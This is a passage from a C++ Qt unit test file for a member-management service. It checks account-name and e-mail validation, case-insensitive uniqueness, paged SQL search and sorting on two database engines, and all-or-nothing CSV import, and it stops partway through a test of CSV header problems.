// MemberService: the rules of a member (account name, display name, e-mail, department,
// country), uniqueness regardless of case, look-up, paging with search and sort done in SQL,
// changing the country, and CSV import (dry run, all or nothing, every problem by line, the
// optional country column) and export that imports back unchanged.

#include "tests/support/CoreTest.h"

#include "core/base/Csv.h"
#include "core/base/PhoneNumbers.h"
#include "core/base/UserText.h"
#include "core/books/ActivityLog.h"
#include "core/books/CompanyService.h"
#include "core/credit/CreditService.h"
#include "core/members/MemberService.h"
#include "core/storage/Transaction.h"

#include <QFile>
#include <QSet>
#include <QTemporaryDir>

#include <algorithm>

using sb::Error;
using sb::Member;
using sb::MemberQuery;
using sb::MemberService;
using sb::Money;
using sb::NewMember;
using sb::ReadyMember;

Q_DECLARE_METATYPE(sb::MemberQuery::Sort)

namespace {

QString s(const char* utf8)
{
    return QString::fromUtf8(utf8);
}

QStringList accounts(const QList<Member>& members)
{
    QStringList out;
    for (const Member& m : members)
        out << m.account;
    return out;
}

QStringList reversed(QStringList l)
{
    std::reverse(l.begin(), l.end());
    return l;
}

// Seven members whose order is the same under byte-wise (SQLite) and linguistic
// (PostgreSQL) collation, so every expectation below is exact on both engines.
struct Fixture
{
    QString account, name, email, department;
    qint64 balanceCents;
};
const QList<Fixture>& fixture()
{
    static const QList<Fixture> f = {
        {s("anna.berg"), s("Anna Berg"), s("anna@example.com"), s("Sales"), 3000},
        {s("bjorn.dahl"), s("Bjørn Dahl"), s("bjorn@example.no"), s("Support"), 500},
        {s("lukasz.wojcik"), s("Łukasz Wójcik"), s("lukasz@example.pl"), s("Engineering"), 1250},
        {s("ingrid.odegard"), s("Ingrid Ødegård"), s("ingrid@example.no"), s("Finance"), 0},
        {s("chloe.mercier"), s("Chloé Mercier"), s("chloe@example.fr"), s("Marketing"), 9999},
        {s("daan.devries"), s("Daan de Vries"), s("daan@example.nl"), s("Sales"), 500},
        {s("john_doe1"), s("John Doe"), QString(), QString(), 100},
    };
    return f;
}

// Adds the fixture; returns an empty string or what went wrong.
QString addFixture(const sb::Context& ctx)
{
    const MemberService members(ctx);
    const sb::CreditService credit(ctx);
    if (auto t = sb::CompanyService(ctx).topUp(Money::fromCents(100000), s("T")); !t)
        return t.error().message;
    for (const Fixture& f : fixture()) {
        if (auto a = members.add({f.account, f.name, f.email, f.department}); !a)
            return a.error().message;
        if (f.balanceCents > 0) {
            if (auto c = credit.allocate(Money::fromCents(f.balanceCents), {f.account}); !c)
                return c.error().message;
        }
    }
    return {};
}

#define SB_ADD_FIXTURE(ctx)                                                                        \
    do {                                                                                           \
        const QString problem_ = addFixture(ctx);                                                  \
        QVERIFY2(problem_.isEmpty(), qPrintable(problem_));                                        \
    } while (0)

struct Problem
{
    int line;
    QString fragment;
};

QString describe(const sb::ImportReport& r)
{
    QStringList out;
    for (const auto& p : r.rejected)
        out << QStringLiteral("%1: %2").arg(p.line).arg(p.reason);
    return out.join(QLatin1Char('\n'));
}

QList<QStringList> memberRows(const sb::Context& ctx)
{
    MemberQuery q;
    q.sort = MemberQuery::Sort::Account;
    q.limit = 1000;
    QList<QStringList> out;
    auto page = MemberService(ctx).page(q);
    if (!page)
        return {{QStringLiteral("<page failed: %1>").arg(page.error().message)}};
    for (const Member& m : std::as_const(*page))
        out << QStringList{m.account, m.name, m.email, m.department};
    return out;
}

QByteArray readFile(const QString& path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

} // namespace

class TestMemberService : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase() { SB_INIT_CORE_TEST(); }

    void accountNameRules_data();
    void accountNameRules();
    void accountNameMessagesDiffer();
    void emailRules_data();
    void emailRules();
    void displayNameAndDepartmentRules();
    void accountKeyIgnoresCase();

    void addWritesMemberAccountAndLog_data() { sbt::addEngineRows(); }
    void addWritesMemberAccountAndLog();
    void addTrims_data() { sbt::addEngineRows(); }
    void addTrims();
    void insertManyStoresAsAdd_data() { sbt::addEngineRows(); }
    void insertManyStoresAsAdd();
    void addRefusedChangesNothing_data();
    void addRefusedChangesNothing();
    void findUnknown_data() { sbt::addEngineRows(); }
    void findUnknown();
    void findIdsReadsManyInChunks_data() { sbt::addEngineRows(); }
    void findIdsReadsManyInChunks();

    void pageSorted_data();
    void pageSorted();
    void pageSearch_data();
    void pageSearch();
    void pageSeekLimit_data() { sbt::addEngineRows(); }
    void pageSeekLimit();
    void departments_data() { sbt::addEngineRows(); }
    void departments();

    void importDryRunReportsEveryProblem_data() { sbt::addEngineRows(); }
    void importDryRunReportsEveryProblem();
    void importWithAnyProblemWritesNothing_data() { sbt::addEngineRows(); }
    void importWithAnyProblemWritesNothing();
    void importGoodWritesAll_data() { sbt::addEngineRows(); }
    void importGoodWritesAll();
    void importHeaderProblems_data() { sbt::addEngineRows(); }
    void importHeaderProblems();
    void importCancelledWritesNothing_data() { sbt::addEngineRows(); }
    void importCancelledWritesNothing();
    void exportImportRoundTrip_data() { sbt::addEngineRows(); }
    void exportImportRoundTrip();
    void exportCancelledWritesNoFile_data() { sbt::addEngineRows(); }
    void exportCancelledWritesNoFile();

    void countryRules();
    void addWithCountry_data() { sbt::addEngineRows(); }
    void addWithCountry();
    void setCountry_data() { sbt::addEngineRows(); }
    void setCountry();
    void importCountryColumn_data() { sbt::addEngineRows(); }
    void importCountryColumn();
};

// 6–32 characters, starting with a letter, then letters, digits, '.', '_', '-'. "Letters"
// are ASCII letters: account names are sign-in names.
void TestMemberService::accountNameRules_data()
{
    QTest::addColumn<QString>("account");
    QTest::addColumn<QString>("fragment"); // empty: valid; "*": refused, any message
    QTest::newRow("typical") << s("anna.berg") << QString();
    QTest::newRow("six") << s("Ab1234") << QString();
    QTest::newRow("thirty-two") << (s("a") + QString(31, QLatin1Char('b'))) << QString();
    QTest::newRow("all punctuation") << s("a_b-c.d9") << QString();
    QTest::newRow("upper case") << s("ANNA.BERG") << QString();
    QTest::newRow("empty") << QString() << s("is empty");
    QTest::newRow("five") << s("abc12") << s("6 to 32 characters");
    QTest::newRow("thirty-three") << (s("a") + QString(32, QLatin1Char('b')))
                                  << s("6 to 32 characters");
    QTest::newRow("digit first") << s("1abcdef") << s("must start with a letter");
    QTest::newRow("underscore first") << s("_abcdef") << s("must start with a letter");
    QTest::newRow("dot first") << s(".abcdef") << s("must start with a letter");
    QTest::newRow("hyphen first") << s("-abcdef") << s("must start with a letter");
    QTest::newRow("space") << s("anna berg") << s("may only contain");
    QTest::newRow("at sign") << s("anna@berg.no") << s("may only contain");
    QTest::newRow("plus") << s("anna+berg") << s("may only contain");
    QTest::newRow("non-ascii inside") << s("lukasz.wójcik") << s("may only contain");
    QTest::newRow("non-ascii first") << s("Łukasz.w") << s("*");
    // A pattern's $ also matches before a final line break (found by tests/fuzz).
    QTest::newRow("trailing newline") << s("anna.berg\n") << s("may only contain");
}

void TestMemberService::accountNameRules()
{
    QFETCH(QString, account);
    QFETCH(QString, fragment);
    auto r = MemberService::validateAccountName(account);
    QCOMPARE(r.ok(), fragment.isEmpty());
    if (!r.ok()) {
        QCOMPARE(r.error().kind, Error::Kind::Invalid);
        if (fragment != QLatin1String("*"))
            QVERIFY2(r.error().message.contains(fragment), qPrintable(r.error().message));
    }
}

void TestMemberService::accountNameMessagesDiffer()
{
    QStringList messages;
    for (const QString& bad : {QString(), s("abc12"), s("1abcdef"), s("anna berg")}) {
        // error() of a success is undefined: each of these must fail before its message is read.
        const auto r = MemberService::validateAccountName(bad);
        QVERIFY2(!r.ok(), qPrintable(bad));
        QCOMPARE(r.error().kind, Error::Kind::Invalid);
        messages << r.error().message;
    }
    QCOMPARE(QSet<QString>(messages.begin(), messages.end()).size(), 4);
}

void TestMemberService::emailRules_data()
{
    QTest::addColumn<QString>("email");
    QTest::addColumn<bool>("ok");
    QTest::newRow("none") << QString() << true;
    QTest::newRow("simple") << s("a@b.co") << true;
    QTest::newRow("plus and dots") << s("anna.berg+calls@mail.example.com") << true;
    QTest::newRow("non-ascii") << s("ødegård@example.no") << true;
    QTest::newRow("no dot in domain") << s("a@b") << false;
    QTest::newRow("no at") << s("annaexample.com") << false;
    QTest::newRow("two ats") << s("a@@b.co") << false;
    QTest::newRow("nothing before at") << s("@b.co") << false;
    QTest::newRow("space") << s("an na@b.co") << false;
    QTest::newRow("trailing dot") << s("a@b.co.") << false;
    QTest::newRow("empty domain label") << s("a@.co") << false;
    QTest::newRow("too long") << (QString(250, QLatin1Char('a')) + s("@b.co")) << false;
    QTest::newRow("254 characters") << (QString(249, QLatin1Char('a')) + s("@b.co")) << true;
    QTest::newRow("trailing newline") << s("anna@example.no\n") << false;
    // Empty labels anywhere in the domain, not only the last (found by tests/fuzz).
    QTest::newRow("leading dot in domain") << s("a@.b.co") << false;
    QTest::newRow("two dots in domain") << s("a@b..co") << false;
    // \s is ASCII only: control characters and Unicode spaces too (found by tests/fuzz).
    QTest::newRow("next line control") << s("an\u0085na@b.co") << false;
    QTest::newRow("no-break space") << s("an\u00a0na@b.co") << false;
    QTest::newRow("control in domain") << s("anna@b\u0006.co") << false;
}

void TestMemberService::emailRules()
{
    QFETCH(QString, email);
    QFETCH(bool, ok);
    auto r = MemberService::validateEmail(email);
    QCOMPARE(r.ok(), ok);
    if (!ok) {
        QCOMPARE(r.error().kind, Error::Kind::Invalid);
        // Quoted as typed, a long address by its first 40 characters and "…".
        QVERIFY2(r.error().message.contains(sb::UserText::quoted(email)),
                 qPrintable(r.error().message));
    }
}

void TestMemberService::displayNameAndDepartmentRules()
{
    QVERIFY(MemberService::validateDisplayName(s("Żaneta")).ok());
    QVERIFY(MemberService::validateDisplayName(QString(100, QLatin1Char('x'))).ok());
    QVERIFY(!MemberService::validateDisplayName(QString()).ok());
    QVERIFY(!MemberService::validateDisplayName(s("   ")).ok());
    QVERIFY(!MemberService::validateDisplayName(QString(101, QLatin1Char('x'))).ok());
    QVERIFY(MemberService::validateDepartment(QString()).ok());
    QVERIFY(MemberService::validateDepartment(QString(100, QLatin1Char('d'))).ok());
    QVERIFY(!MemberService::validateDepartment(QString(101, QLatin1Char('d'))).ok());
}

void TestMemberService::accountKeyIgnoresCase()
{
    QCOMPARE(sb::accountKey(s(" Anna.Berg ")), s("anna.berg"));
    QCOMPARE(sb::accountKey(s("ANNA.BERG")), sb::accountKey(s("anna.berg")));
}

void TestMemberService::addWritesMemberAccountAndLog()
{
    QFETCH(QString, engine);
    SB_ENV(e, engine);
    const MemberService members(*e.ctx);
    auto added = members.add({s("Anna.Berg"), s("Anna Berg"), s("anna@example.com"), s("Sales")});
    SB_VERIFY_OK(added);
    QVERIFY(added->id > 0);
    QVERIFY(added->accountId > sb::Ledger::CompanyAccount);
    QCOMPARE(added->account, s("Anna.Berg"));

    auto found = members.find(s("anna.berg")); // any case finds it
    SB_VERIFY_OK(found);
    QCOMPARE(found->id, added->id);
    QCOMPARE(found->accountId, added->accountId);
    QCOMPARE(found->account, s("Anna.Berg")); // spelled as entered
    QCOMPARE(found->name, s("Anna Berg"));
    QCOMPARE(found->email, s("anna@example.com"));
    QCOMPARE(found->department, s("Sales"));
    QCOMPARE(found->status, s("active"));
    QCOMPARE(found->balance, Money());
    QCOMPARE(found->createdAt, sbt::defaultNow());
    QVERIFY(!found->autoRecharge.has_value());

    QCOMPARE(
        sbt::rows(e.db(), QStringLiteral("SELECT kind, balance_cents FROM accounts WHERE id = %1")
                              .arg(added->accountId)),
        QStringList{s("member|0")});
    QCOMPARE(sbt::count(e.db(), QStringLiteral("ledger")), 0);
    auto log = sb::ActivityLog(*e.ctx).page(10);
    SB_VERIFY_OK(log);
    QCOMPARE(log->size(), 1);
    QCOMPARE(log->first().key, s("member.add"));
    QCOMPARE(log->first().subject, s("Anna.Berg"));
    QCOMPARE(*members.count(), qint64(1));
}

void TestMemberService::addTrims()
{
    QFETCH(QString, engine);
    SB_ENV(e, engine);
    const MemberService members(*e.ctx);
    SB_VERIFY_OK(members.add(
        {s("  anna.berg "), s("  Anna Berg  "), s(" anna@example.com "), s(" Sales ")}));
    auto m = members.find(s("anna.berg"));
    SB_VERIFY_OK(m);
    QCOMPARE(m->account, s("anna.berg"));
    QCOMPARE(m->name, s("Anna Berg"));
    QCOMPARE(m->email, s("anna@example.com"));
    QCOMPARE(m->department, s("Sales"));
}

// insertMany() (the demo's, with its members made ready() on another thread) stores a member
// as add() does: the same normalised text, country and keys.
void TestMemberService::insertManyStoresAsAdd()
{
    QFETCH(QString, engine);
    SB_ENV(e, engine);
    const MemberService members(*e.ctx);
    const auto messy = [](const QString& account) {
        return NewMember{account, s("  \u00C5nna \u200B Berg  "), s(" anna@example.com "),
                         s(" Sales "), s(" no ")};
    };
    SB_VERIFY_OK(members.add(messy(s(" Anna.Berg "))));
    {
        auto tx = sb::Transaction::begin(e.db());
        SB_VERIFY_OK(tx);
        const ReadyMember ready = MemberService::ready(messy(s(" Anna.Berg2 ")));
        QCOMPARE(ready.member.country, s("NO"));
        auto added = members.insertMany(tx.value(), QList<ReadyMember>{ready});
        SB_VERIFY_OK(added);
        QCOMPARE(added->size(), 1);
        QCOMPARE(added->first().account, s("Anna.Berg2"));
        SB_VERIFY_OK(tx->commit());
    }
    const auto row = [&](const QString& key) {
        auto q = e.db().runFirst(s("SELECT display_name, email, department, country, search_key"
                                   " FROM members WHERE account_key = ?"),
                                 {key});
        QStringList out;
        if (q) {
            for (int c = 0; c < 5; ++c)
                out << q->value(c).toString();
        }
        return out;
    };
    const QStringList byAdd = row(s("anna.berg"));
    QStringList byInsertMany = row(s("anna.berg2"));
    QCOMPARE(byAdd.size(), 5);
    QCOMPARE(byAdd.mid(0, 4),
             (QStringList{s("\u00C5nna Berg"), s("anna@example.com"), s("Sales"), s("NO")}));
    QCOMPARE(byInsertMany.mid(0, 4), byAdd.mid(0, 4));
    // The search keys differ only in the account they start with.
    QVERIFY(byInsertMany.value(4).startsWith(s("anna.berg2\u001F")));
    QCOMPARE(byInsertMany.value(4).mid(10), byAdd.value(4).mid(9));
}

void TestMemberService::addRefusedChangesNothing_data()
{
    QTest::addColumn<QString>("engine");
    QTest::addColumn<QString>("account");
    QTest::addColumn<QString>("name");
    QTest::addColumn<QString>("email");
    QTest::addColumn<QString>("department");
    QTest::addColumn<int>("kind");
    const int invalid = int(Error::Kind::Invalid);
    const int refused = int(Error::Kind::Refused);
    for (const QString& engine : sb::test::TestDatabase::engines()) {
        auto row = [&](const char* tag, const QString& a, const QString& n, const QString& em,
                       const QString& d, int kind) {
            QTest::addRow("%s: %s", qPrintable(engine), tag) << engine << a << n << em << d << kind;
        };
        row("empty account", QString(), s("X"), QString(), QString(), invalid);
        row("short account", s("abc"), s("X"), QString(), QString(), invalid);
        row("digit first", s("9lives.cat"), s("X"), QString(), QString(), invalid);
        row("bad character", s("anna#berg"), s("X"), QString(), QString(), invalid);
        row("empty name", s("new.member"), s("  "), QString(), QString(), invalid);
        row("bad email", s("new.member"), s("New"), s("new@"), QString(), invalid);
        row("long department", s("new.member"), s("New"), QString(), QString(101, QLatin1Char('d')),
            invalid);
        row("duplicate", s("anna.berg"), s("Another Anna"), QString(), QString(), refused);
        row("duplicate other case", s("ANNA.Berg"), s("Another Anna"), QString(), QString(),
            refused);
        row("duplicate with blanks", s(" anna.berg "), s("Another Anna"), QString(), QString(),
            refused);
    }
}

void TestMemberService::addRefusedChangesNothing()
{
    QFETCH(QString, engine);
    QFETCH(QString, account);
    QFETCH(QString, name);
    QFETCH(QString, email);
    QFETCH(QString, department);
    QFETCH(int, kind);
    SB_ENV(e, engine);
    const MemberService members(*e.ctx);
    SB_VERIFY_OK(members.add({s("anna.berg"), s("Anna Berg"), QString(), QString()}));
    const sbt::Snapshot before = sbt::snapshot(e.db());
    auto r = members.add({account, name, email, department});
    QVERIFY(!r.ok());
    QCOMPARE(int(r.error().kind), kind);
    QVERIFY(!r.error().message.isEmpty());
    SB_COMPARE_SNAPSHOT(before, sbt::snapshot(e.db()));
}

void TestMemberService::findUnknown()
{
    QFETCH(QString, engine);
    SB_ENV(e, engine);
    const MemberService members(*e.ctx);
    SB_VERIFY_OK(members.add({s("anna.berg"), s("Anna Berg"), QString(), QString()}));
    auto r = members.find(s("anna.berg2"));
    QVERIFY(!r.ok());
    QCOMPARE(r.error().kind, Error::Kind::NotFound);
    QVERIFY(r.error().message.contains(s("anna.berg2")));
    auto many = members.findMany({s("anna.berg"), s("nobody.here")});
    QVERIFY(!many.ok());
    QCOMPARE(many.error().kind, Error::Kind::NotFound);
}

void TestMemberService::findIdsReadsManyInChunks()
{
    QFETCH(QString, engine);
    SB_ENV(e, engine);
    const MemberService members(*e.ctx);
    // More than one chunk of ids (500 a statement), an unknown id among them.
    QString csv = s("account,name\n");
    for (int i = 0; i < 1203; ++i)
        csv += s("member%1,Member %1\n").arg(i, 4, 10, QLatin1Char('0'));
    auto imported = members.importCsvText(csv, false);
    SB_VERIFY_OK(imported);
    QCOMPARE(imported->added, 1203);
    QList<qint64> ids{999999999};
    QSet<QString> expected;
    auto q = e.db().run(s("SELECT id, account_name FROM members"));
    SB_VERIFY_OK(q);
    while (q->next()) {
        if (q->value(0).toLongLong() % 3 == 0)
            continue;
        ids.append(q->value(0).toLongLong());
        expected.insert(q->value(1).toString());
    }
    QVERIFY(expected.size() > 500);
    auto found = members.findIds(ids);
    SB_VERIFY_OK(found);
    QSet<QString> accounts;
    for (const Member& m : std::as_const(*found)) {
        accounts.insert(m.account);
        auto one = members.find(m.account);
        SB_VERIFY_OK(one);
        QCOMPARE(m.id, one->id);
        QCOMPARE(m.balance, one->balance);
        QCOMPARE(m.numbers, one->numbers);
    }
    QCOMPARE(found->size(), expected.size());
    QCOMPARE(accounts, expected);
    auto none = members.findIds({});
    SB_VERIFY_OK(none);
    QVERIFY(none->isEmpty());
}

void TestMemberService::pageSorted_data()
{
    QTest::addColumn<QString>("engine");
    QTest::addColumn<MemberQuery::Sort>("sort");
    QTest::addColumn<QStringList>("ascending");
    const QStringList byAccount = {s("anna.berg"),    s("bjorn.dahl"),     s("chloe.mercier"),
                                   s("daan.devries"), s("ingrid.odegard"), s("john_doe1"),
                                   s("lukasz.wojcik")};
    const QStringList byName = byAccount; // "Anna Berg" … "John Doe", "Łukasz Wójcik"
    const QStringList byEmail = {s("john_doe1"),     s("anna.berg"),    s("bjorn.dahl"),
                                 s("chloe.mercier"), s("daan.devries"), s("ingrid.odegard"),
                                 s("lukasz.wojcik")};
    // Ties (Sales; 5.00) fall back to insertion order.
    const QStringList byDepartment = {s("john_doe1"),     s("lukasz.wojcik"), s("ingrid.odegard"),
                                      s("chloe.mercier"), s("anna.berg"),     s("daan.devries"),
                                      s("bjorn.dahl")};
    const QStringList byBalance = {s("ingrid.odegard"), s("john_doe1"),     s("bjorn.dahl"),
                                   s("daan.devries"),   s("lukasz.wojcik"), s("anna.berg"),
                                   s("chloe.mercier")};
    const QStringList byStatus = {s("anna.berg"),      s("bjorn.dahl"),    s("lukasz.wojcik"),
                                  s("ingrid.odegard"), s("chloe.mercier"), s("daan.devries"),
                                  s("john_doe1")};
    for (const QString& engine : sb::test::TestDatabase::engines()) {
        QTest::addRow("%s: account", qPrintable(engine))
            << engine << MemberQuery::Sort::Account << byAccount;
        QTest::addRow("%s: name", qPrintable(engine))
            << engine << MemberQuery::Sort::Name << byName;
        QTest::addRow("%s: email", qPrintable(engine))
            << engine << MemberQuery::Sort::Email << byEmail;
        QTest::addRow("%s: department", qPrintable(engine))
            << engine << MemberQuery::Sort::Department << byDepartment;
        QTest::addRow("%s: balance", qPrintable(engine))
            << engine << MemberQuery::Sort::Balance << byBalance;
        QTest::addRow("%s: status", qPrintable(engine))
            << engine << MemberQuery::Sort::Status << byStatus;
    }
}

void TestMemberService::pageSorted()
{
    QFETCH(QString, engine);
    QFETCH(MemberQuery::Sort, sort);
    QFETCH(QStringList, ascending);
    SB_ENV(e, engine);
    SB_ADD_FIXTURE(*e.ctx);
    const MemberService members(*e.ctx);
    MemberQuery q;
    q.sort = sort;
    q.ascending = true;
    auto up = members.page(q);
    SB_VERIFY_OK(up);
    QCOMPARE(accounts(*up), ascending);
    q.ascending = false;
    auto down = members.page(q);
    SB_VERIFY_OK(down);
    QCOMPARE(accounts(*down), reversed(ascending));
    // The rows carry their balances.
    for (const Member& m : std::as_const(*up)) {
        for (const Fixture& f : fixture()) {
            if (f.account == m.account)
                QCOMPARE(m.balance, Money::fromCents(f.balanceCents));
        }
    }
    SB_VERIFY_BOOKS(*e.ctx);
}

void TestMemberService::pageSearch_data()
{
    QTest::addColumn<QString>("engine");
    QTest::addColumn<QString>("search");
    QTest::addColumn<QStringList>("expected"); // by account
    for (const QString& engine : sb::test::TestDatabase::engines()) {
        auto row = [&](const char* tag, const QString& search, const QStringList& expected) {
            QTest::addRow("%s: %s", qPrintable(engine), tag) << engine << search << expected;
        };
        row("upper ascii", s("ANNA"), {s("anna.berg")});
        row("ø lower", s("ødegård"), {s("ingrid.odegard")});
        row("Ø upper", s("ØDEGÅRD"), {s("ingrid.odegard")});
        row("Ł upper", s("ŁUKASZ"), {s("lukasz.wojcik")});
        row("ł lower", s("łukasz"), {s("lukasz.wojcik")});
        row("ó inside", s("WÓJCIK"), {s("lukasz.wojcik")});
        row("é", s("CHLOÉ MERC"), {s("chloe.mercier")});
        // Accents are folded away both ways: what is typed without them finds them.
        row("accents typed plain", s("odegard"), {s("ingrid.odegard")});
        row("accents typed on plain text", s("ÅNNÅ BÉRG"), {s("anna.berg")});
        row("lukasz typed plain", s("lukasz woj"), {s("lukasz.wojcik")});
        // One or two characters match the start of the account (SearchIndex).
        row("one letter: the account's start", s("J"), {s("john_doe1")});
        row("two letters: the account's start", s("Lu"), {s("lukasz.wojcik")});
        row("two letters elsewhere only", s("rg"), {});
        row("email domain", s("example.no"), {s("bjorn.dahl"), s("ingrid.odegard")});
        row("department", s("sales"), {s("anna.berg"), s("daan.devries")});
        row("two words", s("de vries"), {s("daan.devries")});
        row("blanks trimmed", s("  berg  "), {s("anna.berg")});
        row("underscore is literal", s("n_d"), {s("john_doe1")});
        row("percent is literal", s("a%b"), {});
        row("backslash is literal", s("a\\b"), {});
        row("nothing", s("zzz"), {});
        row("blank is everything", s("   "),
            {s("anna.berg"), s("bjorn.dahl"), s("chloe.mercier"), s("daan.devries"),
             s("ingrid.odegard"), s("john_doe1"), s("lukasz.wojcik")});
    }
}

void TestMemberService::pageSearch()
{
    QFETCH(QString, engine);
    QFETCH(QString, search);
    QFETCH(QStringList, expected);
    SB_ENV(e, engine);
    SB_ADD_FIXTURE(*e.ctx);
    const MemberService members(*e.ctx);
    MemberQuery q;
    q.search = search;
    q.sort = MemberQuery::Sort::Account;
    auto found = members.page(q);
    SB_VERIFY_OK(found);
    QCOMPARE(accounts(*found), expected);
    auto n = members.count(search);
    SB_VERIFY_OK(n);
    QCOMPARE(*n, qint64(expected.size()));
}

void TestMemberService::pageSeekLimit()
{
    QFETCH(QString, engine);
    SB_ENV(e, engine);
    SB_ADD_FIXTURE(*e.ctx);
    const MemberService members(*e.ctx);
    MemberQuery q;
    q.sort = MemberQuery::Sort::Account;
    q.limit = 3;
    QStringList all;
    QList<int> sizes;
    for (int i = 0; i < 4; ++i) {
        auto page = members.page(q);
        SB_VERIFY_OK(page);
        sizes << int(page->size());
        all += accounts(*page);
        if (!page->isEmpty())
            q.after = MemberService::seekKey(page->last(), q.sort);
    }
    QCOMPARE(sizes, (QList<int>{3, 3, 1, 0}));
    QCOMPARE(all,
             (QStringList{s("anna.berg"), s("bjorn.dahl"), s("chloe.mercier"), s("daan.devries"),
                          s("ingrid.odegard"), s("john_doe1"), s("lukasz.wojcik")}));
    // A window of a search.
    q.search = s("example");
    q.after = {};
    q.limit = 2;
    auto before = members.page(q);
    SB_VERIFY_OK(before);
    q.after = MemberService::seekKey(before->last(), q.sort);
    auto window = members.page(q);
    SB_VERIFY_OK(window);
    QCOMPARE(accounts(*window), (QStringList{s("chloe.mercier"), s("daan.devries")}));
    QCOMPARE(*members.count(), qint64(7));
    QCOMPARE(*members.count(s("example")), qint64(6));
}

void TestMemberService::departments()
{
    QFETCH(QString, engine);
    SB_ENV(e, engine);
    SB_ADD_FIXTURE(*e.ctx);
    auto d = MemberService(*e.ctx).departments();
    SB_VERIFY_OK(d);
    QCOMPARE(*d, (QStringList{s("Engineering"), s("Finance"), s("Marketing"), s("Sales"),
                              s("Support")}));
}

namespace {
// Line 1 header; 2 good; 3 bad account; 4 duplicate of 2 in the file; 5 existing member;
// 6 three fields; 7 bad e-mail; 8–9 one record over two lines (refused: a line break in a
// display name is a control character, issue 12); 10 good;
// 11 a quote that never closes (it swallows the rest of the file).
const char* kProblemCsv = "account,name,email,department\n"
                          "good.one,Good One,good@example.com,Sales\n"
                          "1bad.account,Bad Account,,\n"
                          "Good.One,Duplicate In File,,\n"
                          "existing.user,Already There,,\n"
                          "short.row,Only Three,x@example.com\n"
                          "bad.email,Bad Email,not-an-email,\n"
                          "multi.line,\"Name\nOn Two Lines\",,Support\n"
                          "after.multi,After,,\n"
                          "broken.quote,\"Never closed,,\n"
                          "never.seen,Never Seen,,\n";
} // namespace

void TestMemberService::importDryRunReportsEveryProblem()
{
    QFETCH(QString, engine);
    SB_ENV(e, engine);
    const MemberService members(*e.ctx);
    SB_VERIFY_OK(members.add({s("existing.user"), s("Existing"), QString(), QString()}));
    const sbt::Snapshot before = sbt::snapshot(e.db());
    auto r = members.importCsvText(s(kProblemCsv), true);
    SB_VERIFY_OK(r);
    QVERIFY(r->dryRun);
    QCOMPARE(r->added, 0);
    QCOMPARE(r->valid, 2); // good.one, after.multi
    const QList<Problem> expected = {
        {3, s("must start with a letter")},
        {4, s("more than once")},
        {5, s("already exists")},
        {6, s("Expected 4 fields, found 3")},
        {7, s("not-an-email")},
        {11, s("never closed")},
        {8, s("may not contain control characters")},
    };
    for (const Problem& p : expected) {
        bool found = false;
        for (const auto& got : r->rejected)
            found = found || (got.line == p.line && got.reason.contains(p.fragment));
        QVERIFY2(found, qPrintable(QStringLiteral("line %1 \"%2\" not reported; got:\n%3")
                                       .arg(p.line)
                                       .arg(p.fragment, describe(*r))));
    }
    QSet<int> lines;
    for (const auto& got : r->rejected)
        lines.insert(got.line);
    QCOMPARE(lines, (QSet<int>{3, 4, 5, 6, 7, 8, 11}));
    SB_COMPARE_SNAPSHOT(before, sbt::snapshot(e.db()));
}

void TestMemberService::importWithAnyProblemWritesNothing()
{
    QFETCH(QString, engine);
    SB_ENV(e, engine);
    const MemberService members(*e.ctx);
    SB_VERIFY_OK(members.add({s("existing.user"), s("Existing"), QString(), QString()}));
    const sbt::Snapshot before = sbt::snapshot(e.db());
    auto r = members.importCsvText(s(kProblemCsv), false);
    SB_VERIFY_OK(r);
    QVERIFY(!r->dryRun);
    QCOMPARE(r->added, 0);
    QVERIFY(!r->rejected.isEmpty());
    SB_COMPARE_SNAPSHOT(before, sbt::snapshot(e.db()));
    // One bad line among good ones is enough.
    auto one = members.importCsvText(
        s("account,name\nfine.member,Fine\nfine.too,Fine Too\nx,Too Short\n"), false);
    SB_VERIFY_OK(one);
    QCOMPARE(one->added, 0);
    QCOMPARE(one->valid, 2);
    QCOMPARE(one->rejected.size(), 1);
    QCOMPARE(one->rejected.first().line, 4);
    SB_COMPARE_SNAPSHOT(before, sbt::snapshot(e.db()));
}

void TestMemberService::importGoodWritesAll()
{
    QFETCH(QString, engine);
    SB_ENV(e, engine);
    const MemberService members(*e.ctx);
    // A BOM, CRLF, the columns in another order and case, a quoted comma, non-ASCII.
    const QString text = QChar(0xfeff) + s("Name,ACCOUNT,Department,Email\r\n"
                                           "\"Berg, Anna\",anna.berg,Sales,anna@example.com\r\n"
                                           "Łukasz Wójcik,lukasz.wojcik,Engineering,\r\n"
                                           "Ingrid Ødegård,ingrid.odegard,,ingrid@example.no\r\n");
    const sbt::Snapshot before = sbt::snapshot(e.db());
    auto dry = members.importCsvText(text, true);
    SB_VERIFY_OK(dry);
    QCOMPARE(dry->valid, 3);
    QCOMPARE(dry->added, 0);
    QVERIFY2(dry->rejected.isEmpty(), qPrintable(describe(*dry)));
    SB_COMPARE_SNAPSHOT(before, sbt::snapshot(e.db()));

    auto r = members.importCsvText(text, false);
    SB_VERIFY_OK(r);
    QVERIFY2(r->rejected.isEmpty(), qPrintable(describe(*r)));
    QCOMPARE(r->added, 3);
    QCOMPARE(r->valid, 3);
    QCOMPARE(memberRows(*e.ctx),
             (QList<QStringList>{
                 {s("anna.berg"), s("Berg, Anna"), s("anna@example.com"), s("Sales")},
                 {s("ingrid.odegard"), s("Ingrid Ødegård"), s("ingrid@example.no"), QString()},
                 {s("lukasz.wojcik"), s("Łukasz Wójcik"), QString(), s("Engineering")}}));
    QCOMPARE(sbt::count(e.db(), QStringLiteral("accounts")), 4);
    QCOMPARE(sbt::count(e.db(), QStringLiteral("ledger")), 0);
    auto log = sb::ActivityLog(*e.ctx).page(10);
    SB_VERIFY_OK(log);
    QCOMPARE(log->size(), 1);
    QCOMPARE(log->first().key, s("member.import"));
    QCOMPARE(log->first().values.value(s("count")).toInt(), 3);

    // Importing the same file again: every line is now an existing member, nothing added.
    auto again = members.importCsvText(text, false);
    SB_VERIFY_OK(again);
    QCOMPARE(again->added, 0);
    QCOMPARE(again->rejected.size(), 3);
    QCOMPARE(*members.count(), qint64(3));
}

void TestMemberService::importHeaderProblems()
{
    QFETCH(QString, engine);
    SB_ENV(e, engine);
    const MemberService members(*e.ctx);
    const sbt::Snapshot before = sbt::snapshot(e.db());
    auto empty = members.importCsvText(QString(), false);
    SB_VERIFY_OK(empty);
    QCOMPARE(empty->rejected.size(), 1);
    QCOMPARE(empty->rejected.first().line, 1);
    auto noAccount = members.importCsvText(s("name,email\nAnna,anna@example.com\n"), false);
